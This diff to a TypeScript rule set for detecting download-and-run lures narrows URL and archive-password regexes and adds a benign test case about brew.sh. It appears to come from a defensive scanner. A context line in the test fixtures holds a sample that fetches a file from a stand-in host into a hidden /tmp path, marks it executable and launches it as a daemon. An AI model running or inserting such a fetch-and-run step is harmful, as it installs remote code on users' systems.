@@ -190,10 +190,13 @@ function downloadTarget(fullCommand: string): { file: string; url: string; path?
   return { file: baseName(file), url, path: file };
 }
 
-const ARTIFACT_URL = /\bhttps?:\/\/[^\s'"`)<>\]]+?\.(?:zip|exe|msi|dmg|pkg|7z|rar|appimage|scr|bat|cmd|ps1|vbs|jar|deb|rpm|bin|run|sh|command)(?=[\s'"`)<>\]?#]|$)/gi;
+// The extension on a path, not the host: https://brew.sh is a site, not a shell script.
+const ARTIFACT_URL = /\bhttps?:\/\/[^\s/'"`)<>\]]+\/[^\s'"`)<>\]]*?\.(?:zip|exe|msi|dmg|pkg|7z|rar|appimage|scr|bat|cmd|ps1|vbs|jar|deb|rpm|bin|run|sh|command)(?=[\s'"`)<>\]?#]|$)/gi;
 const DOWNLOAD_VERB = /\b(?:download|get|grab|fetch|save|install)\w*\b/i;
 const RUN_VERB = /\b(?:run|execute|launch|open|start|double-?click|install)\w*\b/i;
-const PASSWORD_NEAR = /\b(?:password|passcode|pass|pwd)\b\s*[:=]?/i;
+// An archive's password given to the reader ("extract with password 1234", "(pass: `hc`)"), not
+// an installer that will ask for the user's password.
+const PASSWORD_NEAR = /\b(?:password|passcode|pass|pwd)\b\s*(?:[:=]|is\b)|\b(?:with|using|use)\s+(?:the\s+)?(?:password|passcode|pass)\b|\b(?:password|passcode)[- ]protected\b/i;
 
 // The same in code: a response written to a file whose name is held in a variable, and that
 // variable then run as a program (Node's child_process, Python's subprocess and os).
@@ -1225,6 +1228,7 @@ export const rules: Rule[] = [
         { path: 'scripts/boot.py', text: 'dest = "/tmp/.helper"\nurllib.request.urlretrieve("https://dl.example-cdn.net/h", dest)\nos.chmod(dest, 0o755)\nsubprocess.Popen([dest, "--daemon"])\n' },
       ],
       noMatch: [
+        'If brew is missing, use the official command from <https://brew.sh>. It will ask for the user\'s password and install the command line tools, so the user must run it in their own terminal.',
         { path: 'scripts/kind.sh', text: 'curl -Lo ./kind https://kind.example.dev/dl/v0.24.0/kind-linux-amd64\nchmod +x ./kind\nsudo mv ./kind /usr/local/bin/kind\n' },
         { path: 'scripts/report.js', text: "const res = await fetch(url);\nfs.writeFileSync(outFile, await res.text());\nexecFileSync('prettier', ['--write', outFile]);\n" },
         { path: 'scripts/fetch.sh', text: 'curl -sSL https://api.github.com/repos/o/r/releases -o releases.json\njq . releases.json\n' },
